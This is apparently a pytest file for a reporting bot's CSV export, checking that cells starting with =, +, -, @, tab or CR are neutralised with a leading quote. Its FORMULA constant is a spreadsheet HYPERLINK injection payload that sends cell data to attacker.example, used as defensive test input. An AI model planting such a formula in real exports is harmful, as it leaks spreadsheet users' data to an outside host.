"""CSV export: cells a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from bot.cli.main import app
from bot.export.formats import COLUMNS, write

FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"open")'


def _record(**overrides: Any) -> dict[str, Any]:
    record: dict[str, Any] = {name: "" for name in COLUMNS}
    record.update(key="AIS-1", title="Plain title", categories=["coercion"], evidence="text")
    record.update(overrides)
    return record


def _rows(*records: dict[str, Any]) -> list[dict[str, str]]:
    out = io.StringIO()
    write(iter(records), "csv", out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_cells_get_a_leading_quote(lead: str) -> None:
    """A cell starting with = + - @ tab or CR is written with a leading single quote."""
    value = lead + "SUM(1,2)"
    (row,) = _rows(_record(title=value, model_name=value, evidence=value))
    assert row["title"] == row["model_name"] == row["evidence"] == "'" + value


def test_formula_in_categories_cell_is_neutralised() -> None:
    """The joined categories cell is neutralised like every other cell."""
    (row,) = _rows(_record(categories=["@evil", "coercion"]))
    assert row["categories"] == "'@evil coercion"


def test_ordinary_cells_are_unchanged() -> None:
    """Cells that do not start with a formula character are written as they are."""
    (row,) = _rows(_record(title="Threat: =2+2 inside", model_name=None, restricted=False))
    assert row["title"] == "Threat: =2+2 inside"
    assert row["model_name"] == "" and row["restricted"] == "False"


def test_cli_csv_export_neutralises_a_formula_title(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A reported title like =HYPERLINK(...) reaches the CSV file quoted, not as a formula."""
    monkeypatch.chdir(tmp_path)
    for name in ("SLACK_BOT_TOKEN", "SLACK_SIGNING_SECRET", "SLACK_APP_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("SAFETYBOT_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    (tmp_path / "e.txt").write_text("the model wrote this", encoding="utf-8")
    runner = CliRunner()
    assert runner.invoke(app, ["report", "e.txt", "--title", FORMULA]).exit_code == 0
    result = runner.invoke(app, ["export", "--format", "csv", "-o", "out.csv"])
    assert result.exit_code == 0, result.output
    with open("out.csv", encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["title"] == "'" + FORMULA
